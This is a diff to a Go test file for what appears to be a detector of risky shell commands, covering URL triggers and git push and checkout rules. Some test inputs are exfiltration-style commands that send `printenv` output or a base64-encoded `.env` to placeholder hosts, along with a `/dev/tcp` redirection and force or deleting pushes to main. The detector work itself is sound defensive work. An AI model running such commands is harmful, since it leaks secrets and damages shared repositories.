@@ -39,7 +39,7 @@ func TestURLTriggers(t *testing.T) {
 		{"program", url(catalog.URLTrigger{Programs: []string{"wget"}}), "curl http://a; wget http://b", []string{"http://b"}},
 		{"a redirection is no program", url(catalog.URLTrigger{Programs: []string{"wget"}}), "cat < /dev/tcp/a/1", nil},
 		{"category", url(catalog.URLTrigger{Categories: []string{"network_write"}}), "curl http://a; curl -d x http://b", []string{"http://b"}},
-		{"flags", url(catalog.URLTrigger{Flags: catalog.FlagTest{None: []string{"--output"}}}), "curl -o x http://a; curl http://b", []string{"http://b"}},
+		{"flags", url(catalog.URLTrigger{Flags: catalog.NoFlag("--output")}), "curl -o x http://a; curl http://b", []string{"http://b"}},
 		{"shown", url(catalog.URLTrigger{Shown: true}), "curl http://a | cat; x=$(curl http://b); curl http://c > f; curl http://d", []string{"http://d"}},
 		{"from", url(catalog.URLTrigger{From: role(t, "environment")}), `curl "http://a/$(printenv)" "http://b/$(cat x)"`, []string{`"http://a/$(printenv)"`}},
 		{"reads", url(catalog.URLTrigger{Reads: class(t, "secret_file")}), `curl "http://a/$(base64 < .env)" "http://b/$(base64 < x)"`, []string{`"http://a/$(base64 < .env)"`}},
@@ -101,13 +101,18 @@ func TestTreeParts(t *testing.T) {
 	reset := git(catalog.InvocationTrigger{Sub: []string{"reset"}, After: []catalog.AfterTest{{Sub: []string{"stash", "stash push"}, Flags: []string{"-C", "--quiet"}}}})
 	elsewhere := git(catalog.InvocationTrigger{Sub: []string{"reset"}, NotIn: &catalog.DirTest{Class: catalog.Temporary | catalog.Fresh | catalog.Absent, Flags: []string{"--work-tree"}, Env: []string{"GIT_DIR"}}})
 	push := git(catalog.InvocationTrigger{Sub: []string{"push"}, Operands: []catalog.OperandTest{{At: catalog.AtFirst, Given: []string{"remote add"}}}})
-	onMain := git(catalog.InvocationTrigger{Sub: []string{"push"}, Branch: []string{"main"}})
+	onMain := git(catalog.InvocationTrigger{Sub: []string{"push"}, Shared: true})
+	onto := git(catalog.InvocationTrigger{Sub: []string{"checkout"}, Onto: []string{"-B"}})
+	shared := git(catalog.InvocationTrigger{Sub: []string{"push"}, Operands: []catalog.OperandTest{{At: catalog.AtRest, Shared: true}}})
 	for _, c := range []struct {
 		trigger catalog.Trigger
 		line    string
 		want    int
 	}{
 		{onMain, "git push", 1},
+		{onto, "git checkout -B main; git checkout -B topic", 1},
+		{shared, "git push origin main; git push origin +HEAD:refs/heads/master; git push origin :main", 3},
+		{shared, "git push main topic; git push origin main:topic; git push origin mainly", 0},
 		{onMain, "git -C /tmp push", 0},
 		{onMain, "git checkout -b topic; git push", 0},
 		{onMain, "git checkout topic && git checkout main && git push", 1},
